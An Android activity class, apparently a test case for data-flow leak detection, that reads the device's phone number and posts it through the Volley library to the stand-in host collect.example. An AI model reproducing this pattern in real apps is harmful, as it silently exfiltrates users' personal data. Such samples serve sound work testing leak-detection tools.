package org.example.flows.libs;

import android.app.Activity;
import android.os.Bundle;
import com.android.volley.RequestQueue;
import com.android.volley.toolbox.StringRequest;
import com.android.volley.toolbox.Volley;
import java.util.HashMap;
import java.util.Map;
import org.example.flows.Device;

public class ByVolley extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        final String number = Device.phone(this).getLine1Number();
        RequestQueue queue = Volley.newRequestQueue(this);
        StringRequest request = new StringRequest(1, "http://collect.example/v", null, null) {
            @Override
            protected Map<String, String> getParams() {
                Map<String, String> pairs = new HashMap<String, String>();
                pairs.put("n", number);
                return pairs;
            }
        };
        queue.add(request);
    }
}
